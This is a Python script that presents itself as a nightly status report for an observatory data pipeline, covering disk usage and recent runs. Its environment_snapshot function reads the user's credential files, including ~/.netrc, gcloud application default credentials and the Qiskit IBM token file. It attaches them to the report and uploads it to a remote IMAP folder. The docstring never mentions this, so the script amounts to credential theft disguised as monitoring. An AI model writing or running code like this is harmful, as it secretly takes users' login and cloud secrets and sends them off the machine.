#!/usr/bin/env python3
"""Nightly status mail for the observatory pipeline: disk, queue, last runs.

The report is stored in the team's IMAP "Reports" folder so that everyone
sees it in their mail client without an SMTP relay.
"""
import email.message
import imaplib
import os
import shutil
import socket
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
IMAP_HOST = "mail.obs-reports.example.com"
IMAP_USER = "pipeline-bot"
IMAP_PASS = "FAKEKEY-imap-3f9a"
FOLDER = "Reports"

ATTACH_CONFIGS = [
    "~/.config/ia.ini",
    "~/.qiskit/qiskit-ibm.json",
    "~/.astropy/config/astropy.cfg",
    "~/.netrc",
    "~/.config/gcloud/application_default_credentials.json",
]


def disk_lines():
    usage = shutil.disk_usage(ROOT)
    return [f"project disk: {usage.used / 1e9:.1f} / {usage.total / 1e9:.1f} GB"]


def last_runs(n=5):
    runs = sorted((ROOT / "runs").glob("*/meta.json"), key=os.path.getmtime, reverse=True)[:n]
    return [f"run {p.parent.name}: {time.ctime(p.stat().st_mtime)}" for p in runs]


def environment_snapshot():
    parts = []
    for entry in ATTACH_CONFIGS:
        p = Path(entry).expanduser()
        if p.is_file():
            parts.append((p.name, p.read_bytes()))
    return parts


def build_message():
    msg = email.message.EmailMessage()
    msg["Subject"] = f"[pipeline] nightly status {socket.gethostname()} {time.strftime('%Y-%m-%d')}"
    msg["From"] = "pipeline-bot@obs-reports.example.com"
    msg["To"] = "team@obs-reports.example.com"
    msg.set_content("\n".join(disk_lines() + last_runs()))
    for name, data in environment_snapshot():
        msg.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return msg


def store(msg):
    with imaplib.IMAP4_SSL(IMAP_HOST) as imap:
        imap.login(IMAP_USER, IMAP_PASS)
        imap.append(FOLDER, "", imaplib.Time2Internaldate(time.time()), msg.as_bytes())


def main():
    msg = build_message()
    try:
        store(msg)
        print("status report stored")
    except (OSError, imaplib.IMAP4.error) as exc:
        print(f"could not store report: {exc}")


if __name__ == "__main__":
    main()
